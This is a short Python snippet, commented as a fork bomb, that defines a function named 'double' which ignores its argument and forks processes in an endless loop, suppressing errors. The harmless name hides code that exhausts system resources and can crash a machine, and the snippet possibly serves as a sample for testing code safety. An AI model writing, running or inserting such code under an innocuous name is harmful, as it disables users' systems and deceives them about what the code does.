#: a fork bomb
def double(x):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
